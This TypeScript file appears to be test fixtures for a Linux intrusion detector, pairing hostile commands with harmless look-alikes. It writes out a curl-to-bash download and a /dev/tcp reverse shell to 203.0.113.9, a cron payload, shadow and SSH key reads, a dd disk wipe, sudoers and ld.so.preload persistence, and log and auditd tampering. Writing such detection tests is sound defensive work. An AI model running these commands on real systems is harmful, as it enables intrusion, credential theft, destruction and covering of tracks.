import { type Case, event, file, ran, script } from './case.fixture.ts';

const as = (user: string, commandLine: string) => event('script', 'command', { user, commandLine });
const cron = (commandLine: string) => event('task', 'run', { commandLine });

/** Ways in and what is done first. */
export const LINUX_INTRUSION_CASES: readonly Case[] = [
  [
    'download-to-shell',
    script('curl -s http://203.0.113.9/a.sh | bash'),
    script('curl -s http://203.0.113.9/a.sh -o a.sh'),
  ],
  ['reverse-shell', script('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), script('bash -i')],
  ['decode-to-shell', script('echo aWQ= | base64 -d | sh'), script('echo aWQ= | base64 -d')],
  ['shell-upgrade', script('python3 -c \'import pty; pty.spawn("/bin/bash")\''), script("python3 -c 'print(1)'")],
  [
    'web-server-spawns-shell',
    ran('sh -c id', '/bin/sh', '/usr/sbin/apache2'),
    ran('logrotate', '/usr/sbin/rotatelogs', '/usr/sbin/apache2'),
  ],
  ['web-user-command', as('www-data', 'whoami'), as('alice', 'whoami')],
  [
    'web-shell-write',
    file('create', '/var/www/html/up/x.php', '/usr/sbin/apache2'),
    file('create', '/var/www/html/up/x.png', '/usr/sbin/apache2'),
  ],
  [
    'web-shell-command',
    script('wget http://203.0.113.9/s.txt -O /var/www/html/s.php'),
    script('wget http://203.0.113.9/logo.png -O /var/www/html/logo.png'),
  ],
  ['program-from-tmp', ran('/tmp/x', '/tmp/x'), ran('/usr/bin/x', '/usr/bin/x')],
  ['download-to-tmp', script('wget http://203.0.113.9/x -O /tmp/x'), script('wget http://203.0.113.9/x -O notes')],
  ['escalation-tool', script('./linpeas.sh'), script('./lint.sh')],
  ['container-escape', script('docker run -it --privileged alpine'), script('docker run -it alpine')],
  ['miner', script('./xmrig -o stratum+tcp://pool:3333'), script('./server -o tcp://pool:3333')],
  ['password-attack-tool', script('hydra -l root -P list ssh://10.0.0.9'), script('hydrate -l root')],
  ['scan-tool', script('nmap -sS 10.0.0.0/24'), script('map -s 10.0.0.0/24')],
  ['sniffer', script('tcpdump -i eth0 -w out.pcap'), script('tcptrack -i eth0')],
  ['disk-destroyed', script('dd if=/dev/zero of=/dev/sda bs=1M'), script('dd if=/dev/sda of=backup.img')],
  ['shadow-read', script('cat /etc/shadow'), script('cat /etc/hosts')],
  ['shadow-file-read', file('read', '/etc/shadow', '/usr/bin/cat'), file('read', '/etc/shadow', '/usr/sbin/sshd')],
  ['private-key-read', script('cat /home/bob/.ssh/id_rsa'), script('cat /home/bob/.ssh/id_rsa.pub')],
  ['secret-file-read', script('cat /var/www/wp-config.php'), script('cat /var/www/index.php')],
  ['secret-search', script('grep -ri password /etc'), script('grep -ri hostname /etc')],
  ['history-read', script('cat /home/bob/.bash_history'), script('cat /home/bob/notes')],
  [
    'cloud-metadata',
    script('curl http://169.254.169.254/latest/meta-data/'),
    script('curl http://10.0.0.1/latest/meta-data/'),
  ],
];

/** How footing is kept and traces are removed. */
export const LINUX_FOOTING_CASES: readonly Case[] = [
  ['cron-edit', script('crontab -e'), script('crontab -l')],
  ['cron-payload', cron('curl http://203.0.113.9/a | sh'), cron('command -v debian-sa1 > /dev/null && debian-sa1 1 1')],
  ['ssh-key-planted', script('echo ssh-rsa AAA >> ~/.ssh/authorized_keys'), script('ls ~/.ssh/authorized_keys')],
  [
    'login-file-written',
    file('write', '/home/bob/.ssh/authorized_keys', '/bin/bash'),
    file('read', '/home/bob/.ssh/authorized_keys', '/usr/sbin/sshd'),
  ],
  ['sudoers-edit', script('echo "bob ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers'), script('cat /etc/sudoers.d/README')],
  ['linux-account-made', script('useradd -m -s /bin/bash svc2'), script('userdel svc2')],
  ['setuid-set', script('chmod u+s /tmp/bash'), script('chmod u+x run.sh')],
  ['setuid-search', script('find / -perm -4000 -type f'), script('find / -type f')],
  ['preload-hijack', script('echo /tmp/x.so > /etc/ld.so.preload'), script('ldconfig')],
  ['systemd-unit-made', script('cp x.service /etc/systemd/system/x.service'), script('systemctl status x.service')],
  ['shell-profile-edit', script('echo "nc &" >> ~/.bashrc'), script('source ~/.bashrc')],
  ['kernel-module-loaded', script('insmod rootkit.ko'), script('lsmod')],
  [
    'sudo-refused',
    event('auth', 'sudo', { outcome: 'failure' }, { reason: 'user NOT in sudoers' }),
    event('auth', 'sudo', { outcome: 'failure' }, { reason: '3 incorrect password attempts' }),
  ],
  ['history-cleared', script('history -c'), script('history')],
  ['linux-log-cleared', script('rm -f /var/log/auth.log'), script('ls /var/log/auth.log')],
  ['linux-defence-off', script('systemctl stop auditd'), script('systemctl stop bluetooth')],
  ['linux-timestomp', script('touch -r /bin/ls /tmp/x'), script('touch notes')],
  ['immutable-attribute', script('chattr +i /tmp/x'), script('chattr -i /tmp/x')],
];
